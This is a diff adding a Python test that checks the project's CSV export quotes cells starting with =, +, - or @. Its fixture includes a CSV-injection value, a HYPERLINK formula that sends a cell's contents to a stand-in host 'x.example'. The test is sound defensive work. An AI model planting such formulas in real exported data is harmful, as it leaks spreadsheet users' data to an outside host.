@@ -341,6 +341,50 @@ def test_csv_files_round_trip_and_match_the_json(loaded, tmp_path):
     assert events["new-garden"]["era"] == "future"
 
 
+def test_csv_cells_a_spreadsheet_would_run_are_quoted(tmp_path):
+    """=, +, -, @ at the start of a cell make a formula in Excel; the open data quotes them
+    (plain numbers stay numbers), and the JSON keeps the text as written."""
+    from parlour.data import export_files
+
+    root = tmp_path / "formulas"
+    files = {
+        "stories/wishes/hostile.yml": """
+            text: {zh: "=HYPERLINK(\\"http://x.example/?\\"&A1, \\"点我\\")", en: "@SUM(1+1)"}
+            by: "-2+3"
+            approved: true
+        """,
+        "stories/wishes/plain.yml": """
+            text: {zh: "-5", en: "a=b"}
+            by: "+86"
+            approved: true
+        """,
+        "stories/places/south.yml": """
+            names: [{name: 南边}]
+            location: {lat: -33.857, lon: 151.215}
+        """,
+    }
+    for rel, text in files.items():
+        path = root / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
+    out = export_files(Archive(load_archive(root), today=TODAY), site_url=SITE)
+
+    def rows(name: str) -> dict[str, dict[str, str]]:
+        text = out[name].decode("utf-8-sig")
+        return {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+
+    wishes = rows("wishes.csv")
+    assert wishes["hostile"]["text_zh"] == "'=HYPERLINK(\"http://x.example/?\"&A1, \"点我\")"
+    assert wishes["hostile"]["text_en"] == "'@SUM(1+1)"
+    assert wishes["hostile"]["by"] == "'-2+3"
+    assert (wishes["plain"]["text_zh"], wishes["plain"]["text_en"]) == ("-5", "a=b")
+    assert wishes["plain"]["by"] == "+86"
+    assert rows("places.csv")["south"]["location_lat"] == "-33.857"
+    document = json.loads(out["archive.json"])
+    texts = {r["id"]: r["text"] for r in document["records"]["wishes"]}
+    assert texts["hostile"]["en"] == "@SUM(1+1)"  # JSON is not opened by spreadsheets
+
+
 # --------------------------------------------------------------------------- TimelineJS
 
 
